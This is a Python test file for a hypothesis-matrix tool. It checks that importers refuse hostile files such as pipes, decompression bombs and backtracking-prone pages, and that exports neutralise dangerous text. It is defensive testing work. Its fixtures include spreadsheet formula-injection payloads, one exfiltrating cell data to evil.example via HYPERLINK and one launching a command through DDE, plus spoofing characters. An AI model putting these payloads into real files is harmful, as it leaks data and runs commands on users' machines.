"""Files made to hurt: every importer refuses them quickly, in bounded memory, with one
clear message and no traceback, and the database stays as it was.

The hostile files are generated here (see ``hostile_files.py``); each runs through the
command line in its own process, with a deadline and a memory cap, so a regression
fails the test instead of hanging or exhausting the machine.
"""

from __future__ import annotations

import csv
import json
import os
import time
from pathlib import Path

import ftfy
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from justext.core import revise_paragraph_classification
from pypdf import PdfReader

from hyp_board import sharing
from hyp_board.core.editor import ProjectEditor
from hyp_board.core.matrix import Matrix
from hyp_board.core.model import Cell, Evidence, Hypothesis, Project, ProjectData, Rating
from hyp_board.core.text import clean_line
from hyp_board.ingest.boilerplate import revise_in_context
from hyp_board.ingest.importer import DocumentImportError, kind_for, parse_document, read_document
from hyp_board.ingest.text_decoding import _FTFY_OPTIONS, fix_text
from hyp_board.project_files import hypboard
from hyp_board.project_files.csv_matrix import parse_csv_matrix
from hyp_board.project_files.hypboard import parse_project, write_project_file
from hyp_board.project_files.import_result import ProjectFileError
from hyp_board.project_files.parc_achz import parse_achz, write_achz
from hyp_board.reports.csv_report import write_csv
from hyp_board.reports.markdown_report import write_markdown
from hyp_board.reports.model import build_report
from hyp_board.reports.pdf import write_pdf
from hyp_board.safe_read import FileTooLarge, UnreadableFile, read_limited

import hostile_files as hf

MEMORY_CAP = 1536 * 2**20  # address space; the interpreter and its libraries take ~600 MB of it


def hyp_board(*args: str, db: Path, timeout: float = 20) -> hf.Run:
    return hf.run_hyp_board(list(args), dict(os.environ, HYP_BOARD_DB=str(db)), timeout, MEMORY_CAP)


def refused_cleanly(result: hf.Run, name: str, reason: str) -> None:
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith(f"refused {name}: "), result.stderr
    assert reason in result.stderr, result.stderr


@pytest.fixture
def project_db(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.sqlite"
    base = hf.hypboard_document(title="Base") | {"documents": []}
    base["evidence"][0].pop("document")
    path = hf.write_hypboard(tmp_path, "base.hypboard", base)
    assert hyp_board("import", "--create-db", str(path), db=db).returncode == 0  # project 1
    return db


# -- 10. special files ----------------------------------------------------------------------
@pytest.mark.parametrize("suffix", [".hypboard", ".achz", ".csv", ".txt", ".mhtml", ".pdf", ".docx", ".eml"])
@pytest.mark.parametrize(("make", "kind"), [(hf.fifo, "a named pipe"), (hf.endless, "a device")])
def test_pipes_and_devices_are_refused_at_once(project_db: Path, tmp_path: Path, make, kind, suffix):  # type: ignore[no-untyped-def]
    path = make(tmp_path, f"special{suffix}")
    command = ["import"] if suffix in (".hypboard", ".achz", ".csv") else ["add-documents", "1"]
    start = time.monotonic()
    result = hyp_board(*command, str(path), db=project_db)
    assert time.monotonic() - start < 10
    refused_cleanly(result, path.name, f"it is {kind}, not a regular file")


def test_a_folder_is_refused(tmp_path: Path):
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    with pytest.raises(UnreadableFile, match="it is a folder"):
        read_limited(folder, 100)


def test_reading_stops_at_the_limit(tmp_path: Path):
    path = tmp_path / "file"
    path.write_bytes(b"x" * 100)
    assert read_limited(path, 100) == b"x" * 100
    with pytest.raises(FileTooLarge) as refused:
        read_limited(path, 99)
    assert refused.value.size == 100
    with pytest.raises(UnreadableFile, match="No such file"):
        read_limited(tmp_path / "missing", 100)


def test_a_symbolic_link_to_a_regular_file_is_followed(tmp_path: Path):
    target = tmp_path / "target.txt"
    target.write_bytes(b"text")
    (tmp_path / "link.txt").symlink_to(target)
    assert read_limited(tmp_path / "link.txt", 100) == b"text"


# -- 11. memory amplification ---------------------------------------------------------------
@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (hf.achz_rating_bomb, "more than 200,000 ratings"),
        (hf.achz_text_bomb, "decompresses to more than 64 MB"),
        (hf.csv_wide, "more than 200,000 ratings"),
        (hf.csv_newlines, "no evidence rows under the header"),
        (hf.hypboard_of_empty_objects, "more than 2,500,000 objects and lists"),
    ],
    ids=["achz ratings", "achz text", "csv wide", "csv newlines", "hypboard objects"],
)
def test_small_files_that_would_fill_the_memory_are_refused_at_the_limit(project_db, tmp_path, make, reason):  # type: ignore[no-untyped-def]
    path = make(tmp_path)
    result = hyp_board("import", str(path), db=project_db)
    refused_cleanly(result, path.name, reason)
    size_mb = path.stat().st_size / 2**20
    assert result.peak_mb < 10 * size_mb + 200, f"{result.peak_mb:.0f} MB for a {size_mb:.1f} MB file"
    assert result.seconds < 8, f"{result.seconds:.1f} s"


ITEM = "<EVIDENCE><NAME>e</NAME><VALUES>C</VALUES></EVIDENCE>"


@pytest.mark.parametrize(
    ("matrix", "reason"),
    [
        ("<x/>" * 500_001, "more than 500,000 elements"),
        ("<x>" * 70 + "</x>" * 70, "elements nested too deep"),
        ("<HYPOTHESIS/><EVIDENCE>" + "<x/>" * 1001 + "</EVIDENCE>", "an item holds more than 1,000 elements"),
        ("<HYPOTHESIS/>" * 1001, "more than 1,000 hypotheses"),
        ("<HYPOTHESIS/>" + ITEM * 20_001, "more than 20,000 evidence items"),
        ("<HYPOTHESIS/>" + "<EVIDENCE><VALUES>" + ",C" * 1001 + "</VALUES></EVIDENCE>", "1,002 ratings"),
    ],
    ids=["elements", "depth", "item parts", "hypotheses", "items", "ratings in a row"],
)
def test_parc_limits_are_counted_while_reading(matrix: str, reason: str):
    start = time.monotonic()
    with pytest.raises(ProjectFileError, match=reason):
        parse_achz(hf.achz_bytes(matrix), "hostile.achz")
    assert time.monotonic() - start < 5


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"Evidence,H1\n" + b"e,C\n" * 100_001, "more than 100,000 evidence rows"),
        (b"Evidence" + b",H" * 1001 + b"\n", "1,001 hypothesis columns"),
        (b"Evidence,H1\ne," + b"," * 1_000_000 + b"\n", "line 2 is longer than 1,000,000 characters"),
        (b'Evidence,H1\n"' + b"x" * 200_000 + b'",C\n', "field larger than field limit"),
        (b"Evidence,H1\n" + b"x" * 10_001 + b",C\n", "holds 10,001 characters"),
    ],
    ids=["rows", "columns", "line", "field", "cell"],
)
def test_csv_limits_are_counted_while_reading(raw: bytes, reason: str):
    start = time.monotonic()
    with pytest.raises(ProjectFileError, match=reason):
        parse_csv_matrix(raw, "hostile.csv")
    assert time.monotonic() - start < 5


@pytest.mark.parametrize("header", ['\n"' * 32_768, ';"\n' * 20_000, ',"' * 32_768], ids=["1", "2", "3"])
def test_the_csv_separator_is_found_in_linear_time(header: str):
    """csv.Sniffer took minutes on such 64 KB samples (its quote-guessing expressions backtrack)."""
    start = time.monotonic()
    with pytest.raises(ProjectFileError):
        parse_csv_matrix(header.encode(), "hostile.csv")
    assert time.monotonic() - start < 2


# -- 9. expressions and algorithms that take time out of proportion --------------------------
def test_a_page_sniffed_as_html_cannot_make_its_expression_backtrack(tmp_path: Path):
    path = hf.redos_page(tmp_path)  # 225 bytes that took minutes
    start = time.monotonic()
    imported = read_document(path)
    assert time.monotonic() - start < 2
    assert imported.kind == "text"  # comments and then no page: not HTML


@pytest.mark.parametrize(
    ("head", "html"),
    [
        (b"<!DOCTYPE html><p>x", True),
        (b'\xef\xbb\xbf <?xml version="1.0"?>\n<!-- a -- b --> <!----><HTML>', True),
        (b"<!-- unclosed <html>", False),
        (b"<!-- x --> text <html>", False),
        (b"<!---->" * 500 + b"<body>", True),
        (b"plain text", False),
    ],
)
def test_html_is_still_recognised_without_a_suffix(tmp_path: Path, head: bytes, html: bool):
    path = tmp_path / "saved"
    path.write_bytes(head)
    assert kind_for(path, head) == ("html" if html else "text")


def test_a_page_of_many_short_paragraphs_is_classified_in_linear_time():
    """jusText's own context pass took 31 s on 20,000 short paragraphs (minutes on more)."""
    page = b"<html><body>" + b"<p>word word word</p>" * 45_000
    start = time.monotonic()
    imported = parse_document(page, "short.html", "html")
    assert time.monotonic() - start < 10
    assert imported.document.original_text.count("word word word") == 45_000


class FakeParagraph:
    def __init__(self, cf_class: str, heading: bool, length: int) -> None:
        self.cf_class, self.heading, self.text, self.class_type = cf_class, heading, "x" * length, ""


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(["good", "bad", "short", "neargood"]), st.booleans(), st.integers(0, 120))
    )
)
def test_the_linear_context_pass_agrees_with_jusText(paragraphs):  # type: ignore[no-untyped-def]
    ours = [FakeParagraph(*p) for p in paragraphs]
    theirs = [FakeParagraph(*p) for p in paragraphs]
    revise_in_context(ours)
    revise_paragraph_classification(theirs)
    assert [p.class_type for p in ours] == [p.class_type for p in theirs]


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "a",
                " ",
                "\n",
                "\r\n",
                "\r",
                "\t",
                "&amp;",
                "&lt;",
                "<",
                ">",
                "Ã©",
                "â€™",
                "Â’",
                "\x1b[31m",
                "\x00",
                "\x85",
                "ﬁ",
                "é",
                "e\u0301",
                "\u2028",
                "&",
                "x" * 30,
                "\ufeff",
                "Ð¿Ñ€",
            ]
        ),
        max_size=60,
    )
)
def test_the_quick_ftfy_gives_ftfys_result(pieces):  # type: ignore[no-untyped-def]
    text = "".join(pieces)
    assert fix_text(text) == ftfy.fix_text(text, **_FTFY_OPTIONS)


def test_a_text_of_a_million_short_lines_imports_in_seconds():
    start = time.monotonic()
    imported = parse_document(b"w\n" * 1_000_000 + "café\n".encode(), "lines.txt")
    assert time.monotonic() - start < 15
    assert imported.document.original_text.endswith("w\nw\ncafé")


def test_a_page_of_a_million_elements_is_refused_in_seconds():
    page = b"<html><body><p>" + b"<a href=x>link</a> " * 500_000
    start = time.monotonic()
    with pytest.raises(DocumentImportError, match=r"save its text as a \.txt file"):
        parse_document(page, "links.html", "html")
    assert time.monotonic() - start < 10


# -- 12. every failure is one refusal -----------------------------------------------------------
def test_a_web_archive_nested_three_thousand_deep_is_refused(project_db: Path, tmp_path: Path):
    path = hf.nested_mhtml(tmp_path)
    refused_cleanly(hyp_board("add-documents", "1", str(path), db=project_db), path.name, "nested too deeply")


def test_a_web_archive_of_half_a_million_parts_is_refused_before_parsing():
    parts = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" * 500_000
    archive = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n" + parts
    start = time.monotonic()
    with pytest.raises(DocumentImportError, match="more than 10,000 parts"):
        parse_document(archive, "parts.mhtml", "mhtml")
    assert time.monotonic() - start < 2


def test_a_lone_surrogate_is_replaced_and_said(project_db: Path, tmp_path: Path):
    path = hf.lone_surrogate(tmp_path)
    result = hyp_board("import", str(path), db=project_db)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "Control or invisible characters were removed from 1 field" in result.stdout
    scores = hyp_board("score", "Hostile", db=project_db)
    assert "Iran \ufffd" in scores.stdout


def test_a_reader_failing_in_an_unforeseen_way_still_refuses_in_words(tmp_path: Path, monkeypatch):  # type: ignore[no-untyped-def]
    path = tmp_path / "odd.hypboard"
    path.write_text("{}", encoding="utf-8")

    def broken(_path: Path) -> None:
        raise KeyError("something no check foresaw")

    monkeypatch.setattr(hypboard, "read_project_file", broken)
    with pytest.raises(ProjectFileError, match=r"odd\.hypboard: cannot be read"):
        sharing.read_any(path)


# -- 13. formulas in CSV exports, 14. control characters, and every export read back --------
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
    "NUL\x00in the middle",
    "bell\x07, escape\x1b[31m, C1\x85 and DEL\x7f",
]


def hostile_project() -> ProjectData:
    """A project holding hostile text in every field, as an older version could store it."""
    data = ProjectData(Project("Round trip", notes="notes\x00 and \x1b[2J"))
    for i, text in enumerate(HOSTILE_TEXT, start=1):
        data.hypotheses.append(Hypothesis(text, description=text, id=i, position=i))
        data.evidence.append(Evidence(text, quote=text, source=text, notes=text, id=i, position=i))
        data.cells[(i, i)] = Cell(Rating.I, text)
    return data


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(store, tmp_path: Path):  # type: ignore[no-untyped-def]
    pid = store.insert_project(hostile_project())
    out = tmp_path / "matrix.csv"
    write_csv(build_report(Matrix(store.load_project(pid))), out)
    cells = [cell for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in cells and "''=already quoted" in cells
    assert "\x00" not in out.read_text(encoding="utf-8-sig")


def test_every_export_reads_back_with_the_same_labels(store, tmp_path: Path):  # type: ignore[no-untyped-def]
    pid = store.insert_project(hostile_project())
    matrix = Matrix(store.load_project(pid))
    expected = [clean_line(t) for t in HOSTILE_TEXT]
    files = {
        "hypboard": tmp_path / "p.hypboard",
        "achz": tmp_path / "p.achz",
        "csv": tmp_path / "p.csv",
    }
    write_project_file(matrix, files["hypboard"])
    write_achz(matrix, files["achz"])
    write_csv(build_report(matrix), files["csv"])
    for kind, path in files.items():
        data = sharing.read_any(path).data
        assert [h.label for h in data.hypotheses] == expected, kind
        assert [e.summary for e in data.evidence] == expected, kind
    markdown = tmp_path / "p.md"
    write_markdown(build_report(matrix), markdown)
    text = read_document(markdown).document.text
    assert all(label in text for label in expected[:4])


# -- 16. labels that look alike -------------------------------------------------------------------
@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("Ir\u200ban", "Iran"),  # zero-width space
        ("Ir\u200dan", "Iran"),  # zero-width joiner between Latin letters
        ("\u202eIran\u202c", "Iran"),  # right-to-left override
        ("\u2066Iran\u2069", "Iran"),  # isolate
        ("Ira\u00adn", "Iran"),  # soft hyphen
        ("\ufeffIran", "Iran"),
        ("Tehe\u0301ran", "Tehéran"),  # decomposed é: NFC
        ("می\u200cخواهم", "می\u200cخواهم"),  # the Persian non-joiner is spelling: kept
        ("👩\u200d💻", "👩\u200d💻"),  # an emoji sequence: kept
    ],
)
def test_invisible_characters_leave_labels_from_files_and_from_the_editor(store, typed: str, kept: str):  # type: ignore[no-untyped-def]
    assert clean_line(typed) == kept
    document = hf.hypboard_document(label=typed, summary=typed, title=typed)
    data = parse_project(json.dumps(document).encode(), "spoof.hypboard").data
    assert (data.hypotheses[0].label, data.evidence[0].summary, data.documents[0].title) == (kept,) * 3
    pid = store.insert_project(data)
    editor = ProjectEditor(store, Matrix(store.load_project(pid)))
    hypothesis = editor.matrix.hypotheses[0]
    editor.update_hypothesis(hypothesis.id, {"label": "x" + typed})
    assert Matrix(store.load_project(pid)).hypotheses[0].label == "x" + kept


# -- 8. notes that took Markdown minutes, 15. links in the PDF ------------------------------
def test_the_pdf_of_a_project_with_hostile_notes_is_written_in_seconds(project_db: Path, tmp_path: Path):
    notes = "[" * 40_000 + "\n\n" + "> " * 10_000 + "\n\n" + "![" * 10_000
    path = hf.write_hypboard(tmp_path, "notes.hypboard", hf.hypboard_document(notes=notes))
    assert hyp_board("import", str(path), db=project_db).returncode == 0
    out = tmp_path / "notes.pdf"
    result = hyp_board("export", "Hostile", "--pdf", str(out), db=project_db, timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.seconds < 20
    assert "[[[[" in "".join(page.extract_text() for page in PdfReader(out).pages)


def test_the_pdf_keeps_only_web_and_mail_links(tmp_path: Path):
    data = ProjectData(Project("Links"))
    data.hypotheses.append(Hypothesis("H", id=1))
    notes = "[a](//evil.example/x) [b](\\\\\\\\evil\\\\share) [c](relative.html) [d](https://example.org/ok)"
    data.evidence.append(Evidence("E", notes=notes, id=1))
    out = tmp_path / "links.pdf"
    write_pdf(build_report(Matrix(data)), out)
    targets = [
        annotation.get_object().get("/A", {}).get("/URI")
        for page in PdfReader(out).pages
        for annotation in page.get("/Annots", [])
    ]
    assert targets == ["https://example.org/ok"]
